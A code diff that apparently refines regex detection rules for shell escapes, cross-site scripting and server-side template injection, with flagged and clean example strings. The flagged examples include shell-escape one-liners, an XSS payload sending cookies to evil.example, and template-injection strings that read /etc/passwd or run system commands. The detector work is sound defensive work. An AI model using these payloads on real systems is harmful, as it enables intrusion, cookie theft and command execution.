@@ -127,11 +127,11 @@ export const CODE_INJECTION_RULES: readonly RuleDefinition[] = [
     description: 'Spawns an interactive or privileged shell from inside another program (GTFOBins-style escape: exec "/bin/sh", system("/bin/sh"), /bin/sh -p).',
     anchors: ['/bin/sh', '/bin/bash', '/bin/dash', '/bin/zsh', '/bin/ksh'],
     pattern:
-      /(?:\b(?:exec|system|spawn|popen|proc_open|run|call|env|time|unshare|firejail|pexec|setsid|nohup|chroot\s+\S+|-c|-e|-x|--pty|--interactive)\s*\(?\s*[[{]?\s*["'`]?|(?<![#\w])!\s*|:!\s*|=\s*["'`]?)\/bin\/(?:ba|da|z|k)?sh\b(?!["'],\s*["']-c["'])|\/bin\/(?:ba|da|z|k)?sh\s+-[pi]\b/,
+      /(?:(?:\b(?:exec|system|spawn|popen|proc_open|run|call|env|time|unshare|firejail|pexec|setsid|nohup|chroot\s+\S+)|(?<!\S)(?:-c|-e|-x|--interactive))\s*(?:\(\s*)?(?:[[{]\s*)?["'`]?|(?<![#\w])!\s*|:!\s*|=\s*["'`]?)\/bin\/(?:ba|da|z|k)?sh\b(?!["'],\s*["']-c["'])|\/bin\/(?:ba|da|z|k)?sh\s+-[pi]\b/,
     lookback: 24,
     reference: 'GTFOBins (shell escapes from allowed binaries); MITRE ATT&CK T1059.004, T1548',
     examples: {
-      flagged: ["perl -e 'exec \"/bin/sh\";'", 'find . -exec /bin/sh \\; -quit', "awk 'BEGIN {system(\"/bin/sh\")}'"],
+      flagged: ["perl -e 'exec \"/bin/sh\";'", 'find . -exec /bin/sh \\; -quit', "awk 'BEGIN {system(\"/bin/sh\")}'", 'tmux -c /bin/sh'],
       clean: ['#!/bin/sh\necho "build done"', 'CMD ["/bin/sh", "-c", "npm start"]'],
     },
   },
@@ -206,12 +206,13 @@ export const CODE_INJECTION_RULES: readonly RuleDefinition[] = [
     description: 'Cross-site scripting payload: script or event handler that runs alert/eval/cookie theft, javascript: URLs, SVG onload.',
     anchors: ['<script', 'javascript:', 'onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'onblur', 'ontoggle', 'onanimation', 'onbegin', 'onpageshow', 'onwheel', 'onmouseenter', 'onpointer', 'onstart', 'onfinish', 'oninput', 'onchange', 'expression(', 'srcdoc', 'vbscript:', '<'],
     pattern:
-      /<\s*script\b[^>]{0,200}>[^<]{0,200}?(?:alert|prompt|confirm|eval|document\.(?:cookie|location|write|domain)|window\.location|fetch|xmlhttprequest|string\.fromcharcode|atob)\s*[(.=`]|<\s*script\b[^>]{0,80}\bsrc\s*=\s*["']?(?:https?:)?\/\/(?!(?:cdn|ajax|code|unpkg|www\.google|apis\.google))|\bon(?:error|load|mouseover|focus|click|blur|toggle|animation\w{0,10}|begin|pageshow|wheel|mouseenter|pointer\w{0,6}|start|finish|input|change)\s*=\s*["'`]?[^"'`>]{0,60}?(?:alert|prompt|confirm|eval|document\.|window\.|location|fetch|javascript:|string\.fromcharcode|atob|\bimport\()|\b(?:java|vb)script\s*:(?!\s)[^\n"'<>]{0,80}?(?:alert|prompt|confirm|eval|document\.|window\.|fetch|atob)|\bexpression\s*\([^)]{0,40}(?:alert|javascript|eval)|\bsrcdoc\s*=\s*["']?[^"'>]{0,100}<script|<\s*(?:svg|img|body|iframe|details|video|audio|input|marquee|object|embed|math|a|frameset|bgsound|br|div|style|x)\b[^>]{0,120}?[\s/"'](?:on[a-z]{2,20}\s*=|(?:src|href|data|action|formaction|xlink:href)\s*=\s*["'`]?\s*(?:java|vb)script:)/,
+      /<\s*script\b[^>]{0,200}>[^<]{0,200}?(?:alert|prompt|confirm|eval|document\.(?:cookie|location|write|domain)|window\.location|fetch(?!\s*\(\s*['"`]\/(?!\/))|xmlhttprequest|string\.fromcharcode|atob)\s*[(.=`]|<\s*script\b[^>]{0,80}\bsrc\s*=\s*["']?(?:https?:)?\/\/(?!(?:cdn|ajax|code|unpkg|www\.google|apis\.google))|\bon(?:error|load|mouseover|focus|click|blur|toggle|animation\w{0,10}|begin|pageshow|wheel|mouseenter|pointer\w{0,6}|start|finish|input|change)\s*=\s*["'`]?[^"'`>]{0,60}?(?:alert|prompt|confirm|eval|document\.|window\.|location|fetch|javascript:|string\.fromcharcode|atob|\bimport\()|\b(?:java|vb)script\s*:(?!\s)[^\n"'<>]{0,80}?(?:alert|prompt|confirm|eval|document\.|window\.|fetch|atob)|\bexpression\s*\([^)]{0,40}(?:alert|javascript|eval)|\bsrcdoc\s*=\s*["']?[^"'>]{0,100}<script|<\s*(?:svg|img|body|iframe|details|video|audio|input|marquee|object|embed|math|a|frameset|bgsound|br|div|style|x)\b[^>]{0,120}?[\s/"'](?:on[a-z]{2,20}\s*=(?!\s*\{)|(?:src|href|data|action|formaction|xlink:href)\s*=\s*["'`]?\s*(?:java|vb)script:)/,
     lookback: 2,
     reference: 'PayloadsAllTheThings XSS Injection; OWASP XSS Filter Evasion Cheat Sheet; CWE-79',
     examples: {
       flagged: ["<script>alert('XSS')</script>", '<img src=x onerror=alert(1)>', '<svg/onload=fetch("//evil.example?c="+document.cookie)>', 'javascript:alert(document.domain)'],
-      clean: ['<script src="/static/app.js"></script>', '<button onclick="toggleMenu()">Menu</button>'],
+      // A page's own script calling its own API, and JSX handlers (onChange={…}): ordinary code answers.
+      clean: ['<script src="/static/app.js"></script>', '<button onclick="toggleMenu()">Menu</button>', "<script>fetch('/api/items').then((res) => res.json())</script>", '<input value={query} onChange={(e) => setQuery(e.target.value)} />'],
     },
   },
   {
@@ -219,15 +220,15 @@ export const CODE_INJECTION_RULES: readonly RuleDefinition[] = [
     family,
     category: 'code-intent',
     severity: 'high',
-    description: 'Server-side template injection probes and gadgets ({{7*7}}, ${7*7}, __class__.__mro__, __globals__, config.items()).',
-    anchors: ['{{', '${', '<%=', '#{', '__class__', '__mro__', '__subclasses__', '__globals__', '__builtins__', '__init__', 'getruntime', 'freemarker', '<!--#', '<esi:include'],
+    description: 'Server-side template injection probes and gadgets ({{7*7}}, ${7*7}, __class__.__mro__, __globals__, config.items()), and template expressions that run a command (Mako ${self.module…os.system("id")}, Twig |filter(\'system\')).',
+    anchors: ['{{', '${', '<%', '#{', '*{', '__class__', '__mro__', '__subclasses__', '__globals__', '__builtins__', '__init__', 'getruntime', 'freemarker', '<!--#', '<esi:include'],
     pattern:
-      /\{\{\s*\d+\s*[*+]\s*['"]?\d+['"]?\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}|\.__(?:class|mro|subclasses|globals|builtins|init)__\b[^\n]{0,160}?(?:__(?:mro|subclasses|globals|builtins|import)__|popen|system|os\.|\/etc\/passwd|read\(\))|\{\{[^}]{0,80}?(?:__class__|__globals__|__builtins__|__import__|config\.items|request\.application|lipsum\.__|cycler\.__|self\._templatereference|get_user_file|popen)|getruntime\(\)\.exec|freemarker\.template\.utility\.execute|<!--#\s*(?:exec|include|echo|config|printenv)\b|<esi:include\b/,
+      /\{\{\s*\d+\s*[*+]\s*['"]?\d+['"]?\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}|\.__(?:class|mro|subclasses|globals|builtins|init)__\b[^\n]{0,160}?(?:__(?:mro|subclasses|globals|builtins|import)__|popen|system|os\.|\/etc\/passwd|read\(\))|\{\{[^}]{0,80}?(?:__class__|__globals__|__builtins__|__import__|config\.items|request\.application|lipsum\.__|cycler\.__|self\._templatereference|get_user_file|popen)|(?:\$\{|\{\{|#\{|\*\{|<%=?)[^}%\n]{0,200}?(?:(?:\bos\.(?:system|popen\d?|exec\w{0,3}|spawn\w{0,3})|\bsubprocess\.\w+|\b(?:popen|proc_open|passthru|shell_exec|__import__)|\bprocessbuilder|\bchild_process)\s*\(|\|\s*(?:filter|map|sort|reduce)\s*\(\s*['"](?:system|exec|passthru|shell_exec|popen)['"])|getruntime\(\)\.exec|freemarker\.template\.utility\.execute|<!--#\s*(?:exec|include|echo|config|printenv)\b|<esi:include\b/,
     lookback: 1,
     reference: 'PayloadsAllTheThings Server Side Template Injection and Server Side Include Injection; PortSwigger "Server-Side Template Injection" (Kettle 2015)',
     examples: {
-      flagged: ['{{7*7}}', "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}", '<!--#exec cmd="whoami" -->'],
-      clean: ['Hello {{ user.name }}, your order has shipped.'],
+      flagged: ['{{7*7}}', "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}", '<!--#exec cmd="whoami" -->', '${self.module.cache.util.os.system("id")}', "{{['id']|filter('system')}}"],
+      clean: ['Hello {{ user.name }}, your order has shipped.', "{{ users|filter(u => u.active)|map('name')|join(', ') }}", 'console.log(`built in ${Date.now() - start} ms`)'],
     },
   },
   {
